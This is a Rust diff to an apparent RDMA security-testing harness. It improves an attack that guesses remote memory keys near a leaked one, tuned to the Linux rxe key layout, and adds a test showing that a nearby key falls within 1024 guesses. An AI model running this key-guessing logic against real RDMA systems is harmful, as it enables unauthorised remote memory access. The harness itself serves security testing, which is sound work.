@@ -392,14 +392,24 @@ fn psn_sweep(a: &mut Attacker<'_>) -> Result<Option<String>, TargetError> {
     Ok(a.landed()?.then(|| format!("the WRITE landed within {n} packets")))
 }
 
-/// Guesses of a key near a leaked one: neighbours at strides rkeys are
-/// commonly handed out with.
+/// Guesses of a key near a leaked one: first neighbours at strides keys
+/// are commonly handed out with; then keys made of a neighbouring index
+/// in the upper 24 bits and any byte in the lower 8 (kernel rxe's layout:
+/// MR index << 8 | an 8-bit random key), index +-1, +-2, ...; then the
+/// strides again, further out.
 fn rkey_guesses(leaked: u32) -> impl Iterator<Item = u32> {
     const STRIDES: [u32; 6] = [1, 0x100, 0x80, 0x1000, 0x10000, 0x100_0000];
+    let near = STRIDES.into_iter();
+    let index = (1u32..=8).flat_map(move |k| {
+        [k.wrapping_mul(0x100), k.wrapping_neg().wrapping_mul(0x100)]
+            .into_iter()
+            .flat_map(move |d| (0..=0xffu32).map(move |b| (leaked.wrapping_add(d) & !0xff) | b))
+    });
+    let far = (2u32..=0x400).flat_map(|k| STRIDES.into_iter().map(move |s| k.wrapping_mul(s)));
     let mut seen = BTreeSet::from([leaked]);
-    (1u32..=0x400)
-        .flat_map(|k| STRIDES.into_iter().map(move |s| k.wrapping_mul(s)))
-        .flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)])
+    near.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)])
+        .chain(index)
+        .chain(far.flat_map(move |d| [leaked.wrapping_add(d), leaked.wrapping_sub(d)]))
         .filter(move |g| seen.insert(*g))
 }
 
@@ -620,7 +630,7 @@ pub fn run_one(
     cfg: &AttackConfig,
     name: &str,
 ) -> Result<AttackResult, TargetError> {
-    let Some(&(name, knows, attack)) = ATTACKS.iter().find(|a| a.0 == name) else {
+    let Some(&(name, _, attack)) = ATTACKS.iter().find(|a| a.0 == name) else {
         return Err(TargetError::Io(format!(
             "unknown attack {name:?} ({})",
             names().join(", ")
@@ -655,7 +665,7 @@ pub fn run_one(
         verdict,
         packets: a.packets,
         elapsed: start.elapsed(),
-        detail: format!("{detail} [knows: {knows}]"),
+        detail,
     })
 }
 
@@ -806,6 +816,11 @@ mod tests {
         let r = run(&mut t, &cfg, &which, |_| {}).expect("runs");
         assert_eq!(verdicts(&r), [("rkey-guess", Succeeded), ("exhaustion", Succeeded)]);
         assert_eq!(r[0].packets, 1, "{:?}", r[0]);
+        // Keys laid out as rxe's (index << 8 | a random byte): a key two
+        // indexes up is within 1024 guesses.
+        let g: Vec<u32> = rkey_guesses(0x1234_5607).take(1024).collect();
+        assert!(g.contains(&0x1234_5833) && g.contains(&0x1234_55ff), "{g:x?}");
+        assert_eq!(g.len(), g.iter().collect::<BTreeSet<_>>().len());
         let uc = AttackConfig {
             qp_type: QpType::Uc,
             ..cfg
